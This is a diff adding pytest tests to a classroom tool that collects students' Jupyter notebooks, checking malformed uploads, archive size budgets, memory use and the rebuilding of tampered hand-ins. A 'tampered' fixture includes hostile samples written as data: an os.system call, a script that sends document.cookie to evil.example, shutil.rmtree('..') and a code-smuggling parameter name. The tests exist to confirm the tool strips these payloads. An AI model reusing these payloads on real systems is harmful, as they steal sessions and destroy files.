@@ -6,13 +6,19 @@ real code (the CLI as a subprocess where a person would use it).
 
 from __future__ import annotations
 
+import copy
 import csv
+import json
+import shutil
+import subprocess
+import zipfile
+from collections.abc import Callable
 from datetime import date
 from pathlib import Path
 
 import pytest
 
-from conftest import run_cli
+from conftest import read_json, run_cli
 from nextround.classroom import generate as classroom
 
 TODAY = date(2026, 10, 5)
@@ -75,3 +81,296 @@ def test_the_journal_csv_export_leaves_control_characters_out(tmp_path: Path) ->
     with open(tmp_path / "t" / "checkins.csv", encoding="utf-8", newline="") as f:
         notes = [r["note"] for r in csv.DictReader(f)]
     assert notes == ["fine]0;owned really\nthanks"]
+
+
+# --- shared: a class with its hand-ins --------------------------------------------------
+
+PRIVATE = "PRIVATE-WORDS-5c1e"  # a student's own words: never in any line we print
+GOOD = [f"s{n:02d}" for n in range(1, 6)]  # hand in good work
+BAD = "s06"  # hands in only broken files
+
+
+def as_saved_in_lab(workbook: Path) -> dict:
+    """A released workbook as JupyterLab saves it: carrying its answers in an output."""
+    nb = read_json(workbook)
+    answers = read_json(workbook.with_name(workbook.stem + ".answers.json"))
+    carrier = {"output_type": "display_data", "metadata": {},
+               "data": {"application/vnd.nextround.answers+json": answers, "text/plain": ""}}
+    setup = next(c for c in nb["cells"] if "".join(c["source"]).startswith("# Opening your workbook"))
+    setup["outputs"] = [carrier]
+    return nb
+
+
+@pytest.fixture(scope="module")
+def handed_out(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A course of six whose students have all written something (made once, copied per test)."""
+    from nextround.api import open_answers
+
+    folder = tmp_path_factory.mktemp("class")
+    course = make_course(folder, [(sid, f"Student {sid}") for sid in [*GOOD, BAD]])
+    for n, sid in enumerate([*GOOD, BAD], 1):
+        answers = open_answers(released(course, sid))
+        answers.add_checkin(3 + n, ready=True, note=PRIVATE)
+        answers.update("reply", draft=f"{PRIVATE} {n}")
+        answers.score("preparation", 1 + n % 5)
+    return course
+
+
+def fresh(handed_out: Path, tmp_path: Path, name: str = "course") -> Path:
+    return Path(shutil.copytree(handed_out, tmp_path / name))
+
+
+def good_hand_ins(course: Path, folder: Path) -> Path:
+    """The five good students' notebooks (answers inside) and, for some, answers files."""
+    folder.mkdir(parents=True, exist_ok=True)
+    for n, sid in enumerate(GOOD, 1):
+        workbook = released(course, sid)
+        (folder / f"{sid} my workbook.ipynb").write_text(json.dumps(as_saved_in_lab(workbook)), "utf-8")
+        if n % 2:
+            shutil.copy(workbook.with_name(workbook.stem + ".answers.json"), folder / f"{sid}.answers.json")
+    return folder
+
+
+def tree(course: Path) -> dict[str, bytes]:
+    """Every file in a course folder, by path: what a collection left there."""
+    return {str(p.relative_to(course)): p.read_bytes() for p in sorted(course.rglob("*")) if p.is_file()}
+
+
+def collect_cli(course: Path, *sources: Path) -> tuple[list[str], subprocess.CompletedProcess]:
+    result = run_cli("class", "collect", *map(str, sources), "--dir", str(course))
+    assert "Traceback" not in result.stderr, result.stderr
+    assert PRIVATE not in result.stdout + result.stderr
+    return result.stdout.splitlines(), result
+
+
+# --- 1. one bad upload never stops the class ---------------------------------------------
+
+
+def _hostile_notebooks(good: dict) -> dict[str, bytes]:
+    """Notebooks that break the shape collect relies on, each in its own way."""
+
+    def variant(change: Callable[[dict], object]) -> bytes:
+        nb = copy.deepcopy(good)
+        change(nb)
+        return json.dumps(nb).encode()
+
+    code = next(i for i, c in enumerate(good["cells"]) if c["cell_type"] == "code")
+    return {
+        "nextround-is-text": variant(lambda nb: nb["metadata"].__setitem__("nextround", BAD)),
+        "nextround-is-a-list": variant(lambda nb: nb["metadata"].__setitem__("nextround", [BAD, ASSIGNMENT])),
+        "student-id-is-an-object": variant(lambda nb: nb["metadata"]["nextround"].__setitem__(
+            "student_id", {"note": PRIVATE})),
+        "cells-are-an-object": variant(lambda nb: nb.__setitem__("cells", {"0": nb["cells"][0]})),
+        "a-cell-is-a-number": variant(lambda nb: nb["cells"].__setitem__(2, 7)),
+        "source-is-a-number": variant(lambda nb: nb["cells"][code].__setitem__("source", 42)),
+        "source-holds-numbers": variant(lambda nb: nb["cells"][code].__setitem__("source", ["x = 1\n", 2])),
+        "outputs-are-text": variant(lambda nb: nb["cells"][code].__setitem__("outputs", PRIVATE)),
+        "an-output-is-a-list": variant(lambda nb: nb["cells"][code].__setitem__("outputs", [[PRIVATE]])),
+        "output-data-is-a-list": variant(lambda nb: nb["cells"][code].__setitem__(
+            "outputs", [{"output_type": "display_data", "data": [PRIVATE], "metadata": {}}])),
+        "metadata-is-text": variant(lambda nb: nb.__setitem__("metadata", PRIVATE)),
+        "nested-too-deep": (
+            '{"nbformat": 4, "metadata": {"nextround": {"student_id": "s06"}}, "cells": '
+            + "[" * 100_000 + "]" * 100_000 + "}").encode(),
+        "a-number-too-long": ('{"nbformat": 4, "nbformat_minor": ' + "7" * 5000 + ', "cells": []}').encode(),
+        "nbformat-3": json.dumps({
+            "nbformat": 3, "nbformat_minor": 0,
+            "metadata": {"nextround": {"student_id": BAD, "assignment_id": ASSIGNMENT}},
+            "worksheets": [{"cells": [{"cell_type": "code", "input": "print(1)", "outputs": []}]}]}).encode(),
+    }
+
+
+def test_each_malformed_notebook_is_named_once_and_the_class_is_collected_as_if_it_were_absent(
+        handed_out: Path, tmp_path: Path) -> None:
+    course, alone = fresh(handed_out, tmp_path), fresh(handed_out, tmp_path, "alone")
+    good = good_hand_ins(handed_out, tmp_path / "good")
+    bad = _hostile_notebooks(as_saved_in_lab(released(handed_out, BAD)))
+    loose = tmp_path / "loose"
+    loose.mkdir()
+    for name, data in bad.items():
+        (loose / f"{name}.ipynb").write_bytes(data)
+    archive = tmp_path / "download.zip"
+    with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_DEFLATED) as z:
+        for name, data in bad.items():
+            z.writestr(f"Assignment 3/Student 6_1006_assignsubmission_file_/{name}.ipynb", data)
+        for path in sorted(good.iterdir()):
+            z.write(path, f"Assignment 3/{path.stem}_assignsubmission_file_/{path.name}")
+
+    lines, result = collect_cli(course, archive, loose)
+    expected, _ = collect_cli(alone, good)
+
+    entries = [f"{archive} › Assignment 3/Student 6_1006_assignsubmission_file_/{n}.ipynb" for n in bad]
+    entries += [str(loose / f"{n}.ipynb") for n in bad]
+    for entry in entries:
+        named = [line for line in lines if line.startswith(f"unreadable: {entry}: ")]
+        assert len(named) == 1, (entry, lines)
+    assert len([line for line in lines if line.startswith("unreadable:")]) == len(entries)
+    assert lines[-1] == f"5 collected, 1 missing, 0 duplicates set aside, 0 unknown, {len(entries)} unreadable, 0 unsafe"
+    assert expected[-1] == "5 collected, 1 missing, 0 duplicates set aside, 0 unknown, 0 unreadable, 0 unsafe"
+    assert [line for line in lines if not line.startswith("unreadable:")][:-1] == expected[:-1]
+    assert tree(course) == tree(alone)  # everyone else, exactly as if the bad files were not there
+    assert result.returncode == 1  # something needs the instructor's attention
+    reasons = {line.split(": ", 2)[2] for line in lines if line.startswith("unreadable:")}
+    assert "is a version 3 notebook; only version 4 notebooks can be collected (open and save it in JupyterLab)" \
+        in reasons
+    assert "is nested too deeply to be read" in reasons
+    assert not any(reason.startswith("could not be read") for reason in reasons)  # each one understood
+
+
+# --- 3. collected copies are rebuilt, never run as handed in ------------------------------
+
+
+def tampered(workbook: Path) -> dict:
+    """A hand-in whose cells were changed to run someone else's code, answers still inside."""
+    nb = as_saved_in_lab(workbook)
+    injected = next(c for c in nb["cells"] if "injected-parameters" in c["metadata"].get("tags", []))
+    injected["source"] = ["company = __import__('os').system('touch PWNED') or 'Acme'\n"]
+    setup = next(c for c in nb["cells"] if "".join(c["source"]).startswith("# Opening your workbook"))
+    setup["source"] = ["# Opening your workbook and your saved answers\n", "open('PWNED', 'w').write('x')\n"]
+    setup["outputs"].append({"output_type": "display_data", "metadata": {},
+                             "data": {"text/html": "<script>fetch('https://evil.example/?'+document.cookie)</script>"}})
+    nb["cells"].append({"cell_type": "code", "execution_count": None, "metadata": {"tags": []}, "outputs": [],
+                        "source": ["import shutil; shutil.rmtree('..')"]})
+    return nb
+
+
+def code_of(nb: dict) -> list[str]:
+    return ["".join(c["source"]) for c in nb["cells"] if c["cell_type"] == "code"]
+
+
+def test_a_collected_workbook_is_rebuilt_from_our_template_and_the_upload_kept_apart_untouched(
+        handed_out: Path, tmp_path: Path) -> None:
+    course = fresh(handed_out, tmp_path)
+    upload = tmp_path / "hand-in" / "my workbook.ipynb"
+    upload.parent.mkdir()
+    upload.write_text(json.dumps(tampered(released(course, "s01"))), "utf-8")
+    lines, result = collect_cli(course, upload.parent)
+    assert result.returncode == 0, lines
+    rebuilt = read_json(course / "submitted/s01/s01.ipynb")
+    handed = read_json(released(course, "s01"))
+    # Our cells only, in our order; nothing the student's copy ran or showed.
+    assert code_of(rebuilt) == [code.replace(f"'{ASSIGNMENT}-s01.answers.json'", "'s01.answers.json'")
+                                for code in code_of(handed)]
+    assert all(not c.get("outputs") for c in rebuilt["cells"])
+    assert "PWNED" not in json.dumps(rebuilt) and "evil.example" not in json.dumps(rebuilt)
+    parameters = rebuilt["metadata"]["papermill"]["parameters"]
+    assert parameters["company"] == handed["metadata"]["papermill"]["parameters"]["company"]
+    assert parameters["answers_file"] == "s01.answers.json"  # the answers collected beside it
+    assert rebuilt["metadata"]["nextround"]["student_id"] == "s01"
+    # What was handed in is kept apart, byte for byte; the answers inside it are collected.
+    assert (course / "originals/s01/s01.ipynb").read_bytes() == upload.read_bytes()
+    assert read_json(course / "submitted/s01/s01.answers.json")["reply"]["draft"] == f"{PRIVATE} 1"
+
+
+@pytest.mark.parametrize("spoil", ["no parameters", "company is a list", "an unknown parameter", "another student"])
+def test_a_notebook_whose_parameters_cannot_be_validated_is_kept_as_handed_in_only(
+        handed_out: Path, tmp_path: Path, spoil: str) -> None:
+    course = fresh(handed_out, tmp_path)
+    nb = tampered(released(course, "s02"))
+    parameters = nb["metadata"]["papermill"]["parameters"]
+    if spoil == "no parameters":
+        del nb["metadata"]["papermill"]
+    elif spoil == "company is a list":
+        parameters["company"] = [PRIVATE]
+    elif spoil == "an unknown parameter":
+        parameters["__import__('os').system('x')"] = 1
+    else:
+        parameters["student_id"] = "s03"
+    upload = tmp_path / "hand-in" / "s02.ipynb"
+    upload.parent.mkdir()
+    upload.write_text(json.dumps(nb), "utf-8")
+    lines, _ = collect_cli(course, upload.parent)
+    problem = [line for line in lines if line.startswith(f"unreadable: {upload}: its parameters cannot be used (")]
+    assert len(problem) == 1 and problem[0].endswith("kept as handed in under originals/, not rebuilt (student s02)")
+    assert not (course / "submitted/s02/s02.ipynb").exists()
+    assert (course / "originals/s02/s02.ipynb").read_bytes() == upload.read_bytes()
+    assert read_json(course / "submitted/s02/s02.answers.json")["reply"]["draft"] == f"{PRIVATE} 2"
+
+
+@pytest.mark.slow
+def test_opening_a_rebuilt_workbook_runs_only_our_code_and_its_collected_answers(
+        handed_out: Path, tmp_path: Path) -> None:
+    from nextround.making.run import execute
+
+    course = fresh(handed_out, tmp_path)
+    upload = tmp_path / "hand-in" / "s03.ipynb"
+    upload.parent.mkdir()
+    upload.write_text(json.dumps(tampered(released(course, "s03"))), "utf-8")
+    collect_cli(course, upload.parent)
+    executed = read_json(execute(course / "submitted/s03/s03.ipynb"))
+    assert not list(tmp_path.rglob("PWNED"))
+    carried = [o["data"]["application/vnd.nextround.answers+json"] for c in executed["cells"]
+               for o in c.get("outputs", []) if "application/vnd.nextround.answers+json" in o.get("data", {})]
+    assert carried and carried[-1]["reply"]["draft"] == f"{PRIVATE} 3"  # it opened the answers beside it
+
+
+# --- 2. memory: a download is read one file at a time, within one budget -----------------
+
+
+def test_an_archive_over_its_budget_is_refused_whole_in_one_line_and_the_rest_collected(
+        handed_out: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from nextround.classroom import collect
+
+    course = fresh(handed_out, tmp_path)
+    good = good_hand_ins(handed_out, tmp_path / "good")
+    inner = tmp_path / "inner.zip"
+    with zipfile.ZipFile(inner, "w") as z:
+        for path in sorted(good.iterdir()):
+            z.write(path, path.name)
+    outer = tmp_path / "download.zip"
+    with zipfile.ZipFile(outer, "w") as z:
+        z.write(inner, "Assignment 3/everyone.zip")  # within the budget on its own; not with what is inside
+    alone = tmp_path / "s06"
+    alone.mkdir()
+    (alone / "s06.ipynb").write_text(json.dumps(as_saved_in_lab(released(handed_out, BAD))), "utf-8")
+    monkeypatch.setattr(collect, "MAX_ARCHIVE_BYTES", inner.stat().st_size + 1000)
+    roster = [*GOOD, BAD]
+    result = collect.collect([outer, alone], roster, ASSIGNMENT, course)
+    lines = list(collect.iter_problems(result))
+    assert [line for line in lines if str(outer) in line] == [
+        f"unreadable: {outer}: unpacks to more than {(inner.stat().st_size + 1000) / 1024**2:.3g} MiB "
+        "(the most one download may hold); nothing in it was collected"]
+    assert list(result.chosen) == [BAD] and result.missing == GOOD
+    assert sorted(p.name for p in (course / "submitted").iterdir()) == [BAD]
+    assert not list(course.glob(".collecting-*"))  # the staging folder is gone
+
+    monkeypatch.setattr(collect, "MAX_ARCHIVE_BYTES", 10**9)
+    monkeypatch.setattr(collect, "MAX_MEMBERS", 4)
+    result = collect.collect([outer], roster, ASSIGNMENT, course)
+    assert [p.line() for p in result.unreadable] == [
+        f"{outer}: holds more than 4 files (the most one download may hold); nothing in it was collected"]
+
+
+def _peak_mib(command: list[str], limit_gib: int) -> float:
+    """The peak resident memory of a command run as its own process, under an address-space limit."""
+    import os
+    import resource
+
+    def limit() -> None:
+        resource.setrlimit(resource.RLIMIT_AS, (limit_gib * 1024**3, limit_gib * 1024**3))
+
+    process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, preexec_fn=limit)
+    _, _, usage = os.wait4(process.pid, 0)
+    process.returncode = 0  # reaped by wait4 above
+    return usage.ru_maxrss / 1024
+
+
+@pytest.mark.slow
+def test_collect_memory_does_not_grow_with_the_members_of_a_download(handed_out: Path, tmp_path: Path) -> None:
+    import sys
+
+    # Members of about 300 KB of "{}" cells: each is about 7 MB once parsed, so a
+    # collect that held them all would need ten times more for ten times the members.
+    meta = read_json(released(handed_out, BAD))["metadata"]
+    member = (json.dumps({"metadata": meta, "nbformat": 4, "nbformat_minor": 5})[:-1]
+              + ', "cells": [' + ",".join(["{}"] * 100_000) + "]}").encode()
+    peaks = {}
+    for count in (40, 400):
+        archive = tmp_path / f"class-{count}.zip"
+        with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_DEFLATED) as z:
+            for n in range(count):
+                z.writestr(f"Assignment 3/Student {n}/workbook.ipynb", member)
+        course = fresh(handed_out, tmp_path, f"course-{count}")
+        peaks[count] = _peak_mib([sys.executable, "-m", "nextround", "class", "collect", str(archive),
+                                  "--dir", str(course)], limit_gib=4)
+    assert peaks[400] < 1.5 * peaks[40], peaks  # generous slack: a ratio, never an absolute figure
